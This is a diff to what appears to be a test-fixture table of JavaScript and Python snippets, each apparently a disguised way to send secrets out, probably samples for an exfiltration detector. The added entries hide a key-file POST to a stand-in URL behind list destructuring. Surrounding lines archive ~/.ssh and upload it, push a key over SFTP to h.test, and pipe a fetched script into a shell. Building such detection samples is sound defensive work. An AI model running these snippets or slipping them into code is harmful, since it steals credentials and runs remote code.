@@ -100,6 +100,8 @@ const JS: Readonly<Record<string, string>> = {
     "const tar = require('tar');\ntar.c({ gzip: true, file: '/tmp/k.tgz' }, ['/home/u/.ssh']).then(() => fetch(U, { method: 'POST', body: fs.readFileSync('/tmp/k.tgz') }));",
   'put over ssh':
     "const { Client } = require('ssh2');\nconst c = new Client();\nc.on('ready', () => c.sftp((e, s) => s.fastPut(KEY, '/in/k'))).connect({ host: 'h.test' });",
+  'the others of a list':
+    "const sinks = [async () => {}, (d) => fetch(U, { method: 'POST', body: d })];\nconst [first, ...others] = sinks;\nothers.map((sink) => sink(fs.readFileSync(KEY, 'utf8')));",
   'queue that a timer empties':
     "class Q { constructor() { this.items = []; setInterval(() => this.flush(), 1000); } add(x) { this.items.push(x); } async flush() { await fetch(U, { method: 'POST', body: JSON.stringify(this.items) }); } }\nconst q = new Q();\nq.add(fs.readFileSync(KEY, 'utf8'));",
   'table of records by platform':
@@ -145,6 +147,8 @@ const PY: Readonly<Record<string, string>> = {
     'from concurrent.futures import ThreadPoolExecutor, as_completed\nwith ThreadPoolExecutor() as ex:\n    fs = [ex.submit(lambda p: open(p).read(), p) for p in [KEY]]\n    for f in as_completed(fs):\n        requests.post(U, data=f.result())',
   'queue between threads':
     'import queue, threading\nq = queue.Queue()\ndef work():\n    while True:\n        requests.post(U, data=q.get())\nthreading.Thread(target=work).start()\nq.put(open(KEY).read())',
+  'the others of a list':
+    'def send(d):\n    requests.post(U, data=d)\nfirst, *others, last = [print, send, print]\nfor f in others:\n    f(open(KEY).read())',
   'queue that a task empties':
     'async def work(q):\n    while True:\n        requests.post(U, data=await q.get())\nasync def main():\n    q = asyncio.Queue()\n    asyncio.create_task(work(q))\n    await q.put(open(KEY).read())\nasyncio.run(main())',
   'template of the standard library': 'import string\nos.system(string.Template("curl $u | sh").substitute(u=U))',
